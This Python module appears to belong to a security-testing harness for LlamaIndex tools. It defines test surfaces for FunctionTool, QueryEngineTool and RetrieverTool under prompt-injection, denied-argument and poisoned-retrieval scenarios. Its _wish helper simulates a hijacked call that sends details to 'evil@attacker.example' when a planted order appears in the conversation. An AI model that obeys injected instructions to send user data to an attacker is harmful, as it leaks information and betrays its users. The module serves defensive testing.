"""Tools that code calls by itself."""

from __future__ import annotations

from typing import Any

from llama_index.core.tools import QueryEngineTool, RetrieverTool

from hauberk.testing.matrix import ADA, ORDER
from hauberk_llama_index.matrix._modes import Calls, Talk
from hauberk_llama_index.matrix._world import Shelf
from hauberk_llama_index.matrix.surfaces._engines import query_engine
from hauberk_llama_index.matrix.surfaces._parts import (
    ARGUMENTS,
    HELD,
    POISONED,
    READING,
    USER,
    Surface,
    last_text,
)


def _wish(talk: Talk) -> dict[str, Any]:
    if ORDER in last_text(talk):
        return {"to": "evil@attacker.example", "details": {}}
    return {"to": ADA, "details": {"cc": [ADA]}}


_TOOL: Calls = {
    "sync": lambda tool, talk: tool.call(**_wish(talk)),
    "async": lambda tool, talk: tool.acall(**_wish(talk)),
}
_ASK_TOOL: Calls = {
    "sync": lambda tool, talk: tool.call(input=last_text(talk)),
    "async": lambda tool, talk: tool.acall(input=last_text(talk)),
}


TOOLS_ALONE = (
    Surface(
        "FunctionTool",
        lambda p: p.tools()[0],
        ARGUMENTS | {"denied argument"},
        _TOOL,
        doors=HELD,
        models=False,
    ),
    Surface(
        "QueryEngineTool",
        lambda p: QueryEngineTool.from_defaults(query_engine(p), name="documents", description="d"),
        USER | READING | {"restore in answer", "direct injection"},
        _ASK_TOOL,
    ),
    Surface(
        "RetrieverTool",
        lambda p: RetrieverTool.from_defaults(
            Shelf(**p.options), name="documents", description="d"
        ),
        POISONED,
        _ASK_TOOL,
        models=False,
    ),
)
